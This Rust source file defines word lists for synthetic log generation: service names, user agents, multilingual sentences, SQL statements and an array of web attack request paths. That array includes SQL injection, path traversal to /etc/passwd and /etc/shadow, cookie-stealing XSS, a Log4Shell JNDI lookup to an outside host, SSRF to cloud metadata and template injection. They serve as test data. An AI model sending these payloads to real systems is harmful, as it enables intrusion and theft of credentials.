//! The words that lines and one-shot patterns are made of.

/// Names of services, things and people that occur in lines.
pub(super) const WORDS: [&str; 48] = [
    "checkout", "billing", "search", "session", "gateway", "inventory", "payments", "profile",
    "orders", "shipping", "catalog", "mailer", "worker", "scheduler", "ledger", "notify",
    "alpha", "bravo", "delta", "falcon", "granite", "harbor", "indigo", "juniper",
    "alice", "bruno", "chloe", "dmitri", "elena", "farid", "greta", "hiro",
    "lantern", "meadow", "nebula", "orchid", "pioneer", "quartz", "ridge", "summit",
    "thistle", "umber", "velvet", "willow", "xenon", "yonder", "zephyr", "copper",
];

/// Browsers, robots and tools, as they name themselves.
pub(super) const USER_AGENTS: [&str; 14] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 Edg/125.0.2535.92",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.6.0",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "kube-probe/1.30",
    "okhttp/4.12.0",
];

/// What people write, in several scripts.
pub(super) const SENTENCES: [&str; 14] = [
    "Заказ не найден, попробуйте позже — ошибка сервера",
    "Пользователь Иван Петров изменил пароль в 12:40",
    "Übertragung abgebrochen: Größe der Datei ungültig (Straße 12)",
    "La contraseña no válida; sesión expirada, usuario «martín»",
    "Échec de la mise à jour, le paiement de 1 249,90 € a déjà réussi",
    "注文が失敗しました。サーバーのエラー、タイムアウト 30 秒",
    "支付失败:订单 2024年6月17日 已超时,请重试",
    "주문 처리 중 오류가 발생했습니다. 시간 초과",
    "خطأ في الاتصال بالخادم، حاول مرة أخرى",
    "שגיאה בהתחברות, נסה שוב מאוחר יותר",
    "σφάλμα σύνδεσης με τον διακομιστή",
    "सर्वर से कनेक्शन विफल रहा",
    "Kullanıcı şifre değiştirdi, işlem geçersiz 🚀🔥",
    "การเชื่อมต่อล้มเหลว ลองอีกครั้ง 👍",
];

/// What attackers send.
pub(super) const ATTACKS: [&str; 12] = [
    "/products?id=1%27%20OR%20%271%27=%271",
    "/search?q=1 UNION ALL SELECT username, password FROM users--",
    "/index.php?page=../../../../etc/passwd%00",
    "/search?q=<script>alert(document.cookie)</script>",
    "/profile?name=<img src=x onerror=alert(1)>",
    "/?x=${jndi:ldap://198.51.100.7:1389/a}",
    "/cgi-bin/test.cgi?cmd=cat%20/etc/shadow",
    "/wp-login.php?redirect_to=%2e%2e%2fadmin",
    "/.git/config",
    "/item?id=5;DROP TABLE orders",
    "/fetch?url=http://169.254.169.254/latest/meta-data/",
    "/render?t={{config.__class__.mro()}}",
];

/// Statements of a database's log.
pub(super) const STATEMENTS: [&str; 8] = [
    "SELECT id, email FROM users WHERE tenant_id = $1 ORDER BY created_at DESC LIMIT 50",
    "UPDATE orders SET status = 'shipped' WHERE id = 48812",
    "INSERT INTO \"events\" (kind, payload) VALUES ($1, $2)",
    "DELETE FROM sessions WHERE expires_at < now()",
    "SELECT o.id FROM orders o LEFT OUTER JOIN items i ON i.order_id = o.id WHERE o.total > 100",
    "CREATE UNIQUE INDEX idx_users_email ON users (email)",
    "BEGIN; SAVEPOINT s1; SELECT 1; COMMIT",
    "TRUNCATE TABLE staging.imports",
];
